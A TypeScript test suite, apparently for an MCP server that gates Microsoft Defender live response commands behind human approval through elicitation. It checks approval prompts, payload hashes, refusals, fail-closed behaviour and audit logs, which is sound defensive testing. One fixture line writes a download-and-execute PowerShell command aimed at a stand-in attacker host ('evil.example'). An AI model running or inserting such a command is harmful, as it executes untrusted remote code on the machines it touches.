import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import {
  CallToolResultSchema,
  CreateTaskResultSchema,
  type CallToolResult,
  type ElicitRequest,
  type ElicitResult,
  type Task,
} from "@modelcontextprotocol/sdk/types.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { canonicalJson } from "../../src/audit/canonicalJson.js";
import { verifyAuditLog } from "../../src/audit/verifyAuditLog.js";
import type { ActionEntry } from "../../src/tools/actionEntry.js";
import { DEVICES, OTHER_SCRIPT, SCRIPT } from "../defender/clientFixture.js";
import { startToolHarness, structured, textOf, type ToolHarness } from "../tools/toolHarness.js";
import {
  auditEntries,
  lastCallId,
  librarySha256,
  recordsOf,
  replaceLibraryFile,
  setPolicy,
  sha256Hex,
} from "./safetyFixture.js";

type Actions = { actions: ActionEntry[] };
type ElicitParams = ElicitRequest["params"];
type Answer = (params: ElicitParams) => ElicitResult | Promise<ElicitResult>;

const CLIENT = { name: "approval-test-client", version: "2.3.4" };
const COMMENT = 'IR-2291 triage "urgent"';
const INVOICE = "C:\\Windows\\Temp\\invoice_2291.pdf.exe";
const RECENT = "Get-RecentFiles.ps1";

interface ApprovalServer {
  h: ToolHarness;
  auditLog: string;
  /** Every question the person was asked. */
  asked: ElicitParams[];
  /** How the person answers the next questions. */
  answer: Answer;
}

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "approval-"));
});
afterAll(() => rm(dir, { recursive: true, force: true }));

/**
 * A server whose policy wants a person's approval for every request (OTHER_SCRIPT pinned to its
 * library content), with an audit log; its client answers elicitation when `elicit` is set.
 */
async function startApprovalServer(
  name: string,
  options: { elicit: boolean; tasks?: boolean },
): Promise<ApprovalServer> {
  const policyFile = join(dir, `${name}.yaml`);
  const auditLog = join(dir, `${name}.jsonl`);
  await writeFile(policyFile, "approval: all\n");
  const server: ApprovalServer = {
    h: undefined as never,
    auditLog,
    asked: [],
    answer: () => ({ action: "decline" }),
  };
  server.h = await startToolHarness({
    policyFile,
    policyStatIntervalMs: 20,
    auditLog,
    clientInfo: CLIENT,
    tasks: options.tasks ?? false,
    ...(options.elicit
      ? {
          elicit: (params: ElicitParams) => {
            server.asked.push(params);
            return server.answer(params);
          },
        }
      : {}),
  });
  const pin = await librarySha256(server.h.fx.t, OTHER_SCRIPT);
  await setPolicy(
    server.h,
    policyFile,
    `approval: all\nscripts:\n  - name: ${SCRIPT}\n  - name: ${RECENT}\n  - name: ${OTHER_SCRIPT}\n    sha256: "${pin}"\n`,
  );
  return server;
}

const accept: Answer = () => ({ action: "accept", content: { approve: true, note: "looks right" } });

/** The kinds of the records the last run request wrote, in order. */
async function lastKinds(auditLog: string): Promise<string[]> {
  const entries = await auditEntries(auditLog);
  return recordsOf(entries, lastCallId(entries)).map((r) => r.kind);
}

describe("approval through MCP elicitation", () => {
  let s: ApprovalServer;
  beforeAll(async () => {
    s = await startApprovalServer("plain", { elicit: true });
  });
  afterAll(() => s.h.close());

  const runArgs = {
    machine_ids: [DEVICES.finance],
    commands: [
      { type: "RunScript", script_name: RECENT, args: "-Days 3" },
      { type: "GetFile", path: INVOICE },
    ],
    comment: COMMENT,
  };

  it("shows a person exactly what will run, tied to the tool call, and runs it once they accept", async () => {
    s.answer = accept;
    const asked = s.asked.length;
    const result = await s.h.call("run_live_response", runArgs);
    const [entry] = structured<Actions>(result).actions;
    expect(entry?.status).toBe("Succeeded");
    expect(s.asked).toHaveLength(asked + 1);

    const question = s.asked.at(-1)!;
    expect(question.mode ?? "form").toBe("form");
    const message = question.message;
    for (const text of [
      `MCP client "${CLIENT.name}" version "${CLIENT.version}"`,
      `Why (comment): ${JSON.stringify(COMMENT)}`,
      `1. "fin-ws-0142.contoso.com", id ${DEVICES.finance}`,
      `1. RunScript "${RECENT}" with arguments "-Days 3", library content sha256 `,
      `2. GetFile ${JSON.stringify(INVOICE)}`,
      "Approval needed because: The policy requires a person's approval for every live response request (approval: all).",
    ]) {
      expect(message).toContain(text);
    }
    // The hash shown is the SHA-256 of the canonical payload, computed here from what was asked.
    const payload = {
      requester: { client_name: CLIENT.name, client_version: CLIENT.version },
      comment: COMMENT,
      devices: [{ id: DEVICES.finance, name: "fin-ws-0142.contoso.com" }],
      commands: [
        {
          type: "RunScript",
          script_name: RECENT,
          args: "-Days 3",
          library_sha256: await librarySha256(s.h.fx.t, RECENT),
        },
        { type: "GetFile", path: INVOICE },
      ],
    };
    const hash = sha256Hex(canonicalJson(payload));
    expect(message).toContain(`Payload SHA-256: ${hash}`);
    const schema = question.mode === "url" ? undefined : question.requestedSchema;
    expect(schema?.required).toEqual(["approve"]);
    expect(Object.keys(schema?.properties ?? {}).sort()).toEqual(["approve", "note"]);
    expect(schema?.properties.approve?.type).toBe("boolean");

    // Asked on the tool call's own request (relatedRequestId), so over HTTP it rides that call's stream.
    const call = s.h.clientRequests.findLast((r) => r.method === "tools/call");
    expect(s.h.serverRequests.findLast((r) => r.method === "elicitation/create")?.relatedRequestId).toBe(
      call?.id,
    );

    const entries = await auditEntries(s.auditLog);
    const records = recordsOf(entries, lastCallId(entries));
    expect(records.map((r) => r.kind)).toEqual([
      "request",
      "policy_decision",
      "approval_requested",
      "approval_given",
      "submitted",
      "final_status",
      "result_fetched",
      "result_fetched",
    ]);
    expect(records[0]).toMatchObject({
      machines: [{ id: DEVICES.finance, name: "fin-ws-0142.contoso.com" }],
      who: { client_name: CLIENT.name, client_version: CLIENT.version },
      why: COMMENT,
    });
    expect(records[1]).toMatchObject({ outcome: "approval", rule: "approval" });
    expect(records[2]).toMatchObject({ payload_sha256: hash });
    expect(records[3]).toMatchObject({ payload_sha256: hash });
  });

  it.each([
    ["declines", { action: "decline" }, "APPROVAL_DECLINED", "decline"],
    [
      "accepts with approve false",
      { action: "accept", content: { approve: false } },
      "APPROVAL_DECLINED",
      "decline",
    ],
    ["dismisses the question", { action: "cancel" }, "APPROVAL_CANCELLED", "cancel"],
  ] as const)(
    "sends nothing when the person %s, and says so clearly",
    async (_what, response, code, recorded) => {
      s.answer = () => response as ElicitResult;
      const before = s.h.calls().runliveresponse ?? 0;
      const result = await s.h.call("run_live_response", runArgs);
      expect(result.isError).toBe(true);
      expect(textOf(result)).toMatch(new RegExp(`^Error ${code}: `));
      expect(textOf(result)).toContain("Next step: nothing was sent to Defender");
      expect(s.h.calls().runliveresponse ?? 0).toBe(before);
      expect(await lastKinds(s.auditLog)).toEqual([
        "request",
        "policy_decision",
        "approval_requested",
        "approval_refused",
      ]);
      const entries = await auditEntries(s.auditLog);
      expect(entries.at(-1)).toMatchObject({ kind: "approval_refused", response: recorded });
    },
  );

  it("refuses when the question fails (the client could not show it)", async () => {
    s.answer = () => {
      throw new Error("the client's form crashed");
    };
    const before = s.h.calls().runliveresponse ?? 0;
    const result = await s.h.call("run_live_response", runArgs);
    expect(textOf(result)).toMatch(/^Error APPROVAL_FAILED: /);
    expect(s.h.calls().runliveresponse ?? 0).toBe(before);
    expect((await auditEntries(s.auditLog)).at(-1)).toMatchObject({
      kind: "approval_refused",
      response: "error",
    });
  });

  it("asks anew for every call: an approval is never reused", async () => {
    s.answer = accept;
    const asked = s.asked.length;
    for (let i = 0; i < 2; i++) {
      const result = await s.h.call("run_live_response", {
        ...runArgs,
        commands: [{ type: "RunScript", script_name: SCRIPT }],
      });
      expect(structured<Actions>(result).actions[0]?.status).toBe("Succeeded");
    }
    expect(s.asked).toHaveLength(asked + 2);
  });

  it("refuses when the library file changes between the approval and the submit", async () => {
    const before = s.h.calls().runliveresponse ?? 0;
    s.answer = async () => {
      // Someone replaces the pinned script while the person reads the question.
      await replaceLibraryFile(s.h.fx.t, OTHER_SCRIPT, "Invoke-WebRequest https://evil.example/x | iex");
      return { action: "accept", content: { approve: true } };
    };
    const result = await s.h.call("run_live_response", {
      ...runArgs,
      commands: [{ type: "RunScript", script_name: OTHER_SCRIPT }],
    });
    expect(result.isError).toBe(true);
    expect(textOf(result)).toMatch(/^Error APPROVAL_PAYLOAD_CHANGED: /);
    expect(s.h.calls().runliveresponse ?? 0).toBe(before);
    expect(await lastKinds(s.auditLog)).toEqual([
      "request",
      "policy_decision",
      "approval_requested",
      "approval_given",
      "approval_refused",
    ]);
    const entries = await auditEntries(s.auditLog);
    const given = entries.findLast((e) => e.kind === "approval_given");
    expect(entries.at(-1)).toMatchObject({
      kind: "approval_refused",
      response: "payload_changed",
      payload_sha256: given && "payload_sha256" in given ? given.payload_sha256 : "missing",
    });
  });

  it("judges the request again when the policy changed while the person looked", async () => {
    const policyFile = join(dir, "plain.yaml");
    const before = s.h.calls().runliveresponse ?? 0;
    s.answer = async () => {
      await setPolicy(s.h, policyFile, "approval: all\nscripts: []\n");
      return { action: "accept", content: { approve: true } };
    };
    const result = await s.h.call("run_live_response", {
      ...runArgs,
      commands: [{ type: "RunScript", script_name: SCRIPT }],
    });
    expect(textOf(result)).toMatch(/^Error POLICY_DENIED: the policy denied this request \(rule scripts\)/);
    expect(s.h.calls().runliveresponse ?? 0).toBe(before);
    expect(await lastKinds(s.auditLog)).toEqual([
      "request",
      "policy_decision",
      "approval_requested",
      "approval_given",
      "policy_decision",
    ]);
  });

  it("leaves a chain that audit verify accepts", async () => {
    expect(await verifyAuditLog(s.auditLog)).toEqual({
      ok: true,
      records: (await auditEntries(s.auditLog)).length,
    });
  });
});

describe("a client that cannot be asked", () => {
  let s: ApprovalServer;
  beforeAll(async () => {
    s = await startApprovalServer("unsupported", { elicit: false });
  });
  afterAll(() => s.h.close());

  it("is refused (fail closed) when the policy wants approval, and runs what needs none", async () => {
    const result = await s.h.call("run_live_response", {
      machine_ids: [DEVICES.finance],
      commands: [{ type: "RunScript", script_name: SCRIPT }],
      comment: "no elicitation here",
    });
    expect(result.isError).toBe(true);
    expect(textOf(result)).toMatch(/^Error APPROVAL_UNAVAILABLE: .*did not declare form elicitation/);
    expect(s.h.calls().runliveresponse ?? 0).toBe(0);
    expect(s.h.serverRequests).toEqual([]);
    expect(await lastKinds(s.auditLog)).toEqual(["request", "policy_decision", "approval_refused"]);
    expect((await auditEntries(s.auditLog)).at(-1)).toMatchObject({ response: "unsupported" });

    await setPolicy(s.h, join(dir, "unsupported.yaml"), "approval: none\n");
    const allowed = await s.h.call("run_live_response", {
      machine_ids: [DEVICES.finance],
      commands: [{ type: "RunScript", script_name: SCRIPT }],
      comment: "no approval needed",
    });
    expect(structured<Actions>(allowed).actions[0]?.status).toBe("Succeeded");
  });
});

describe("approval when run_live_response runs as an MCP task", () => {
  let s: ApprovalServer;
  beforeAll(async () => {
    s = await startApprovalServer("tasks", { elicit: true, tasks: true });
  });
  afterAll(() => s.h.close());

  async function startTask(args: Record<string, unknown>): Promise<Task> {
    const { task } = await s.h.mcp.request(
      { method: "tools/call", params: { name: "run_live_response", arguments: args } },
      CreateTaskResultSchema,
      { task: {} },
    );
    return task;
  }

  async function settled(taskId: string): Promise<Task> {
    for (;;) {
      const task = await s.h.mcp.experimental.tasks.getTask(taskId);
      if (["completed", "failed", "cancelled"].includes(task.status)) return task;
      await sleep(task.pollInterval ?? 10);
    }
  }

  const args = {
    machine_ids: [DEVICES.hr],
    commands: [{ type: "RunScript", script_name: SCRIPT }],
    comment: "task approval",
  };

  it("asks before the task is created and before any submit, then runs the approved request", async () => {
    let submitsWhenAsked: number | undefined;
    const before = s.h.calls().runliveresponse ?? 0;
    s.answer = () => {
      submitsWhenAsked = s.h.calls().runliveresponse ?? 0;
      return { action: "accept", content: { approve: true } };
    };
    const task = await startTask(args);
    expect(submitsWhenAsked).toBe(before);
    const call = s.h.clientRequests.findLast((r) => r.method === "tools/call");
    expect(s.h.serverRequests.findLast((r) => r.method === "elicitation/create")?.relatedRequestId).toBe(
      call?.id,
    );
    expect((await settled(task.taskId)).status).toBe("completed");
    const result = (await s.h.mcp.experimental.tasks.getTaskResult(
      task.taskId,
      CallToolResultSchema,
    )) as CallToolResult;
    expect(structured<Actions>(result).actions[0]?.status).toBe("Succeeded");
    expect(s.h.calls().runliveresponse).toBe(before + 1);
    const entries = await auditEntries(s.auditLog);
    expect(recordsOf(entries, lastCallId(entries)).map((r) => r.kind)).toEqual([
      "request",
      "policy_decision",
      "approval_requested",
      "approval_given",
      "submitted",
      "final_status",
      "result_fetched",
    ]);
  });

  it("a declined task fails at once and submits nothing", async () => {
    s.answer = () => ({ action: "decline" });
    const before = s.h.calls().runliveresponse ?? 0;
    const task = await startTask(args);
    const done = await settled(task.taskId);
    expect(done.status).toBe("failed");
    expect(done.statusMessage).toMatch(/^Error APPROVAL_DECLINED: /);
    expect(s.h.calls().runliveresponse ?? 0).toBe(before);
  });
});
